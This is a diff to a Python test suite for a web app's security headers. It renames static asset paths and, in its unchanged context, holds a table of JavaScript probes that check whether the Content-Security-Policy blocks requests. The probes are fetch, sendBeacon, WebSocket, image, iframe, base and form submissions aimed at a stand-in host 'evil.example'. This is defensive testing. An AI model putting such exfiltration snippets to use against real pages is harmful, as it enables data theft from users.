@@ -34,8 +34,8 @@ ASKED = {
     'no page': ('GET', '/nowhere'), 'administration': ('GET', '/admin'), 'to sign in first': ('GET', '/account'),
     'without the slash': ('GET', '/account/'), 'a page that is written': ('POST', '/'),
     'the API': ('GET', '/v1/client'), 'an error of the API': ('POST', '/v1/client/sign_ins'),
-    'nothing of the API': ('GET', '/v1/nothing'), 'a stylesheet': ('GET', '/static/app.css'),
-    'no stylesheet': ('GET', '/static/no.css'), 'the icon': ('GET', '/favicon.ico'),
+    'nothing of the API': ('GET', '/v1/nothing'), 'a stylesheet': ('GET', '/_live_sessions/app.css'),
+    'no stylesheet': ('GET', '/_live_sessions/no.css'), 'the icon': ('GET', '/favicon.ico'),
     'a socket that polls': ('GET', '/_nicegui_ws/socket.io/?EIO=4&transport=polling'),
     'no socket': ('GET', '/_nicegui_ws/socket.io/?EIO=4&transport=polling&sid=none'),
     'a script for the sockets': ('GET', '/_nicegui_ws/socket.io/?j=1'),
@@ -122,7 +122,8 @@ def test_that_the_site_comes_by_https_is_told_by_https_only(settings: dict[str, 
 async def test_behind_a_proxy_that_ends_tls_it_is_told_with_every_answer(start: Start) -> None:
     server = await start({'PUBLIC_URL': 'https://example.com', 'HSTS_SECONDS': '7200'})
     async with patient_client(base_url=server.url, headers={'host': 'example.com'}) as visitor:
-        answers = [await visitor.get(path) for path in ('/', '/v1/client', '/nowhere', '/static/app.css', '/account')]
+        answers = [await visitor.get(path) for path in (
+            '/', '/v1/client', '/nowhere', '/_live_sessions/app.css', '/account')]
         evil = await visitor.get('/', headers={'host': 'evil.example'})
 
     assert {answer.headers.get(HSTS) for answer in answers} == {'max-age=7200'}
@@ -211,7 +212,7 @@ ATTACKS = {
     'connect-src': ['fetch(evil).catch(() => 0)', 'navigator.sendBeacon(evil)', 'new WebSocket("wss://evil.example")'],
     'img-src': ['new Image().src = evil'],
     'frame-src': ["document.body.append(Object.assign(document.createElement('iframe'), {src: evil}))"],
-    'object-src': ["document.body.insertAdjacentHTML('beforeend', '<object data=/static/icon.svg></object>')"],
+    'object-src': ["document.body.insertAdjacentHTML('beforeend', '<object data=/_live_sessions/icon.svg></object>')"],
     'base-uri': ["document.head.append(Object.assign(document.createElement('base'), {href: evil}))"],
     'form-action': ["document.body.append(Object.assign(document.createElement('form'), {action: evil, id: 'sent'}));"
                     'document.getElementById("sent").submit()'],
